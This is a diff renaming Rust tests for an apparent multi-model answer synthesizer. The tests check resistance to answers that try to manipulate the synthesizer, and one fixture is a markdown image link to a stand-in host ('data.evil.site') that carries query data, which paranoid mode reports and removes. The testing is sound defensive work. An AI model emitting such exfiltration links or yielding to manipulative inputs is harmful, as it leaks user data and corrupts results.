@@ -31,7 +31,7 @@ fn spiders(replies: impl IntoIterator<Item = Reply>) -> Scenario {
 }
 
 #[tokio::test(start_paused = true)]
-async fn one_answer_that_leads_the_synthesizer_does_not_win() {
+async fn an_answer_that_manipulates_the_synthesizer_does_not_win() {
     let result = spiders([gullible(50, "6", "8")]).run().await;
     insta::assert_snapshot!(result.story(), @"
     0 started | 0 sent 1 | 0 sent 2 | 0 sent 3
@@ -68,7 +68,7 @@ async fn one_answer_that_leads_the_synthesizer_does_not_win() {
 }
 
 #[tokio::test(start_paused = true)]
-async fn one_answer_that_leads_an_open_text_does_not_win() {
+async fn an_answer_that_manipulates_an_open_text_does_not_win() {
     let panel = [
         ("ada", says(10, "The moon pulls the sea, whatever one says of legs.")),
         ("bob", says(20, "Moon and sun pull the sea.")),
@@ -96,7 +96,7 @@ async fn one_answer_that_leads_an_open_text_does_not_win() {
 }
 
 #[tokio::test(start_paused = true)]
-async fn a_result_that_hangs_on_nobody_stands_as_it_is() {
+async fn a_result_that_depends_on_no_single_answer_is_kept() {
     let result = spiders([gullible(50, "8 legs", "8")]).run().await;
     insta::assert_snapshot!(result.end(), @"
     complete decided at 80, closed at 80
@@ -114,7 +114,7 @@ async fn a_result_that_hangs_on_nobody_stands_as_it_is() {
 }
 
 #[tokio::test(start_paused = true)]
-async fn what_fails_is_said_and_what_came_is_compared() {
+async fn failed_calls_are_reported_and_the_rest_is_compared() {
     let down = || fails(5, failure(Code::Auth));
     // The text of all answers, then those without ada, bob and eve.
     let one = spiders([gullible(50, "6", "8"), down(), gullible(50, "6", "8"), gullible(50, "6", "8")]);
@@ -184,7 +184,7 @@ async fn what_fails_is_said_and_what_came_is_compared() {
 }
 
 #[tokio::test(start_paused = true)]
-async fn two_answers_cannot_be_compared_so() {
+async fn two_answers_are_too_few_to_compare() {
     let two = [
         ("ada", says(10, "A spider has 8 legs.")),
         ("bob", fails(20, failure(Code::Auth))),
@@ -204,7 +204,7 @@ async fn two_answers_cannot_be_compared_so() {
 }
 
 #[tokio::test(start_paused = true)]
-async fn what_was_made_before_a_crash_is_not_paid_again() {
+async fn texts_written_before_a_crash_are_not_paid_again() {
     let scenario = || {
         spiders([
             gullible(50, "6", "8"),
@@ -237,7 +237,7 @@ async fn what_was_made_before_a_crash_is_not_paid_again() {
 }
 
 #[tokio::test(start_paused = true)]
-async fn it_is_in_the_worst_case_and_spares_are_not() {
+async fn control_texts_are_in_the_worst_case_but_spares_are_not() {
     let plan = |strategy: &str, chain: &[&'static str]| {
         let panel = [("ada", says(1, "a")), ("bob", says(1, "b")), ("eve", says(1, "c"))];
         let chain: Vec<_> = chain.iter().map(|name| (*name, says(1, "d"))).collect();
@@ -256,7 +256,7 @@ async fn it_is_in_the_worst_case_and_spares_are_not() {
 }
 
 #[tokio::test(start_paused = true)]
-async fn a_link_that_nobody_gave_is_told_and_under_suspicion_taken_out() {
+async fn an_unknown_link_is_reported_and_removed_in_paranoid_mode() {
     let linking = || {
         let text = "The moon. ![p](https://data.evil.site/p?q=spider) See https://tides.site/a.";
         after(10)
